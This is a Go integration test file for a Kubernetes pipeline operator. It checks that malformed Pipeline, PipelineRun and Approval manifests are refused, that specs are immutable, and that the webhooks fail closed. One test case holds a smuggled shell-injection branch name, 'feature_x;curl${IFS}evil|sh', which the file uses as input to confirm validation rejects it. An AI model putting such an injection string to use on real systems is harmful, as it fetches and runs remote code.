package integration_test

import (
	"context"
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	conveyorv1 "github.com/conveyor-dev/conveyor/api/v1alpha1"
)

// Invalid manifests are refused by the API server (CRD schema and CEL) with a
// message that says what is wrong.
func TestInvalidManifestsRefused(t *testing.T) {
	startManager(t)
	ns := newNamespace(t)
	tests := []struct {
		name     string
		manifest string
		want     string
	}{{
		name: "duplicate stage names",
		manifest: `
kind: Pipeline
metadata: {name: dup}
spec:
  refs: {branches: ["feature_*"]}
  stages:
  - {name: build, jobs: [{name: a, image: busybox}]}
  - {name: build, jobs: [{name: b, image: busybox}]}`,
		want: "stage names must be unique",
	}, {
		name: "duplicate job names in a stage",
		manifest: `
kind: Pipeline
metadata: {name: dupjob}
spec:
  refs: {branches: ["feature_*"]}
  stages:
  - {name: build, jobs: [{name: a, image: busybox}, {name: a, image: alpine}]}`,
		want: "job names must be unique within a stage",
	}, {
		name: "approval stage with jobs",
		manifest: `
kind: Pipeline
metadata: {name: gatejobs}
spec:
  refs: {tags: ["v*"]}
  stages:
  - {name: approve, approval: {groups: [release-engineers]}, jobs: [{name: a, image: busybox}]}`,
		want: "an approval stage has no jobs",
	}, {
		name: "stage with neither jobs nor approval",
		manifest: `
kind: Pipeline
metadata: {name: empty}
spec:
  refs: {tags: ["v*"]}
  stages:
  - {name: nothing}`,
		want: "a stage has either jobs or an approval gate",
	}, {
		name: "manual stage without trigger groups",
		manifest: `
kind: Pipeline
metadata: {name: manual}
spec:
  refs: {branches: ["feature_*"]}
  stages:
  - {name: staging, when: manual, jobs: [{name: a, image: busybox}]}`,
		want: "a manual stage needs triggerGroups",
	}, {
		name: "environment that is not a namespace name",
		manifest: `
kind: Pipeline
metadata: {name: env}
spec:
  refs: {branches: ["feature_*"]}
  stages:
  - {name: staging, environment: Staging_1, jobs: [{name: a, image: busybox}]}`,
		want: "spec.stages[0].environment",
	}, {
		name: "stage name that is not DNS-1123",
		manifest: `
kind: Pipeline
metadata: {name: stagename}
spec:
  refs: {branches: ["feature_*"]}
  stages:
  - {name: Build_It, jobs: [{name: a, image: busybox}]}`,
		want: "spec.stages[0].name",
	}, {
		name: "unknown when",
		manifest: `
kind: Pipeline
metadata: {name: when}
spec:
  refs: {branches: ["feature_*"]}
  stages:
  - {name: build, when: sometimes, jobs: [{name: a, image: busybox}]}`,
		want: `Unsupported value: "sometimes"`,
	}, {
		name: "no ref patterns",
		manifest: `
kind: Pipeline
metadata: {name: norefs}
spec:
  refs: {}
  stages:
  - {name: build, jobs: [{name: a, image: busybox}]}`,
		want: "refs must list at least one branch or tag pattern",
	}, {
		name: "run with branch and tag",
		manifest: `
kind: PipelineRun
metadata: {name: both}
spec:
  pipelineRef: {name: shop}
  git: {branch: feature_x, tag: v1.0.0}`,
		want: "exactly one of branch or tag must be set",
	}, {
		name: "run with neither branch nor tag",
		manifest: `
kind: PipelineRun
metadata: {name: neither}
spec:
  pipelineRef: {name: shop}
  git: {commit: abcdef1}`,
		want: "exactly one of branch or tag must be set",
	}, {
		name: "tag run without a commit",
		manifest: `
kind: PipelineRun
metadata: {name: nocommit}
spec:
  pipelineRef: {name: shop}
  git: {tag: v1.4.0}`,
		want: "a tag run names its commit",
	}, {
		name: "branch with shell metacharacters",
		manifest: `
kind: PipelineRun
metadata: {name: shell}
spec:
  pipelineRef: {name: shop}
  git: {branch: "feature_x;curl${IFS}evil|sh", commit: abcdef1}`,
		want: "spec.git.branch: Invalid value",
	}, {
		name: "tag that git refuses",
		manifest: `
kind: PipelineRun
metadata: {name: dotdot}
spec:
  pipelineRef: {name: shop}
  git: {tag: "v1..4", commit: abcdef1}`,
		want: "not a valid git ref name",
	}, {
		name: "branch ending in .lock",
		manifest: `
kind: PipelineRun
metadata: {name: lock}
spec:
  pipelineRef: {name: shop}
  git: {branch: "feature_x.lock", commit: abcdef1}`,
		want: "not a valid git ref name",
	}, {
		name: "approval with an unknown decision",
		manifest: `
kind: Approval
metadata: {name: maybe}
spec:
  pipelineRunRef: {name: shop-1}
  stage: approve
  decision: Maybe`,
		want: `Unsupported value: "Maybe"`,
	}}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			obj := decodeManifest(t, tc.manifest)
			obj.SetNamespace(ns)
			err := k8s.Create(context.Background(), obj)
			if err == nil {
				t.Fatalf("the API server accepted it")
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %q does not contain %q", err, tc.want)
			}
			t.Logf("Refused: %v", err)
		})
	}
}

// The spec of a run and of an Approval cannot change once created.
func TestSpecsImmutable(t *testing.T) {
	startManager(t)
	ns := newNamespace(t)
	run := newRun(t, ns, featureLogin)
	runPatch := client.RawPatch(types.MergePatchType, []byte(`{"spec":{"git":{"branch":"feature_other"}}}`))
	if err := k8s.Patch(context.Background(), run.DeepCopy(), runPatch); err == nil || !strings.Contains(err.Error(), "spec is immutable") {
		t.Fatalf("run spec update: %v", err)
	}
	a := &conveyorv1.Approval{}
	a.Name, a.Namespace = "staging-trigger", ns
	a.Spec = conveyorv1.ApprovalSpec{PipelineRunRef: conveyorv1.PipelineRunReference{Name: run.Name}, Stage: "staging"}
	seedPipeline(t, ns)
	// Approvals are admitted once the stage waits for them.
	passStage(t, run, "build", "compile")
	passStage(t, run, "testing", "unit", "lint")
	waitRun(t, run, conveyorv1.RunWaiting, "staging")
	if err := as("dana").Create(context.Background(), a); err != nil {
		t.Fatal(err)
	}
	// A merge patch carries no resourceVersion: the refusal cannot be a mere conflict.
	patch := client.RawPatch(types.MergePatchType, []byte(`{"spec":{"decision":"Reject"}}`))
	if err := k8s.Patch(context.Background(), a, patch); err == nil || !strings.Contains(err.Error(), "cannot be changed") {
		t.Fatalf("approval spec update: %v", err)
	}
}

// With the webhook server down, PipelineRuns and Approvals are refused: the
// webhooks fail closed.
func TestWebhooksFailClosed(t *testing.T) {
	ns := newNamespace(t)
	run := &conveyorv1.PipelineRun{}
	run.Name, run.Namespace = "shop-1", ns
	run.Spec = conveyorv1.PipelineRunSpec{PipelineRef: conveyorv1.PipelineReference{Name: "shop"}, Git: featureLogin}
	err := as("dana").Create(context.Background(), run)
	expectRefused(t, err, "failed calling webhook")
	a := &conveyorv1.Approval{}
	a.Name, a.Namespace = "a-1", ns
	a.Spec = conveyorv1.ApprovalSpec{PipelineRunRef: conveyorv1.PipelineRunReference{Name: "shop-1"}, Stage: "staging"}
	err = as("dana").Create(context.Background(), a)
	expectRefused(t, err, "failed calling webhook")
}

// The seed sample and the other samples are accepted as they are.
func TestSamplesAccepted(t *testing.T) {
	startManager(t)
	ns := newNamespace(t)
	seedPipeline(t, ns)
}

func decodeManifest(t *testing.T, manifest string) client.Object {
	t.Helper()
	var head struct {
		Kind string `json:"kind"`
	}
	if err := yaml.Unmarshal([]byte(manifest), &head); err != nil {
		t.Fatal(err)
	}
	var obj client.Object
	switch head.Kind {
	case "Pipeline":
		obj = &conveyorv1.Pipeline{}
	case "PipelineRun":
		obj = &conveyorv1.PipelineRun{}
	case "Approval":
		obj = &conveyorv1.Approval{}
	default:
		t.Fatalf("unknown kind %q", head.Kind)
	}
	if err := yaml.UnmarshalStrict([]byte(manifest), obj); err != nil {
		t.Fatal(err)
	}
	return obj
}
